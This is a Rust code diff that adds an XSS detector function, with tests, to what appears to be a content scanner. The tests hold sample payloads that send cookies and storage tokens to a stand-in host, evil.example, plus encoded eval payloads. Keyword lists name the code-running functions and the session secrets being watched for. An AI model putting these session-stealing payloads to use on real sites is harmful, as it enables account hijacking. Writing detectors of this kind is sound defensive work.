@@ -292,6 +292,73 @@ fn scan_tag(b: &[u8], lt: usize) -> TagScan {
     }
 }
 
+/// Functions that run text as code: a call of one with an expression as
+/// its argument is script whatever the expression (`eval(atob('...'))`,
+/// `new Function(location.hash.slice(1))()`). A single name as the argument
+/// is left to the model (`eval(name)` is a payload, but `<code>eval(is)</code>`
+/// is how the generated benign corpus writes about code), and so is
+/// `import(`, a word of prose too.
+const CODE_RUNNERS: &[&[u8]] = &[
+    b"eval",
+    b"Function",
+    b"setTimeout",
+    b"setInterval",
+    b"execScript",
+];
+
+/// What a script reads to steal a session: with a call or an assignment in
+/// the same value (`fetch('//x/'+document.cookie)`, `new Image().src=...`).
+const SECRETS: &[&[u8]] = &[
+    b"document.cookie",
+    b"document.domain",
+    b"localStorage",
+    b"sessionStorage",
+];
+
+/// Whether the value, as JavaScript, runs text as code ([`CODE_RUNNERS`]
+/// called with an argument) or reads a [`SECRETS`] where it also calls or
+/// assigns something: the model scored such bare script 0.03-0.47 when it
+/// called nothing like `alert` (`models/handwritten/xss-bare-js.txt`).
+/// Names are matched as JavaScript spells them (case matters), whole, with
+/// the `(` right after a code runner's name.
+pub fn runs_code_or_reads_secrets(v: &str) -> bool {
+    let b = v.as_bytes();
+    let word_at = |i: usize, w: &[u8]| {
+        b[i..].starts_with(w)
+            && (i == 0 || !is_identifier_byte(b[i - 1]))
+            && b.get(i + w.len()).is_none_or(|&c| !is_identifier_byte(c))
+    };
+    let expression_at = |i: usize| {
+        let start = skip_space(b, i);
+        let mut j = start;
+        while j < b.len() && is_identifier_byte(b[j]) {
+            j += 1;
+        }
+        // Not `()`, nor a single name.
+        b.get(start).is_some_and(|&c| c != b')')
+            && !(j > start && b.get(skip_space(b, j)) == Some(&b')'))
+    };
+    let runs_code = CODE_RUNNERS.iter().any(|w| {
+        memchr::memmem::find_iter(b, w).any(|i| {
+            word_at(i, w) && b.get(i + w.len()) == Some(&b'(') && expression_at(i + w.len() + 1)
+        })
+    });
+    if runs_code {
+        return true;
+    }
+    let reads_secret = SECRETS
+        .iter()
+        .any(|w| memchr::memmem::find_iter(b, w).any(|i| word_at(i, w)));
+    reads_secret
+        && b.iter().enumerate().any(|(i, &c)| match c {
+            b'(' => callee_before(b, i),
+            b'=' => {
+                b.get(i + 1) != Some(&b'=') && identifier_before(b, skip_space_back(b, i)).is_some()
+            }
+            _ => false,
+        })
+}
+
 /// Whether a quote that ends a JavaScript string is followed, after any
 /// closing `)`, `]` or `}`, by an operator or `;` and then a call: an
 /// identifier path (`fetch`, `navigator.sendBeacon`, `new Image`) directly
@@ -525,6 +592,33 @@ mod tests {
             "<?import namespace=\"x\">",
         ] {
             assert!(script_capable(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn code_runners_and_secrets() {
+        for v in [
+            "eval(atob('YWxlcnQoMSk='))",
+            "new Function(location.hash.slice(1))()",
+            "setTimeout('alert(1)', 0)",
+            "fetch('//evil.example/'+document.cookie)",
+            "new Image().src='//evil.example/?c='+document.cookie",
+            "x.send(localStorage.getItem('token'))",
+            "location.href='//evil.example/'+sessionStorage.token",
+        ] {
+            assert!(runs_code_or_reads_secrets(v), "{v}");
+        }
+        for v in [
+            "eval(name)",
+            "<code>eval(is)</code> is slow",
+            "eval()",
+            "import(location.hash)",
+            "evaluate(x + 1)",
+            "How do I clear localStorage?",
+            "my.document.cookies(1)",
+            "retrieval(x, y)",
+        ] {
+            assert!(!runs_code_or_reads_secrets(v), "{v}");
         }
     }
 
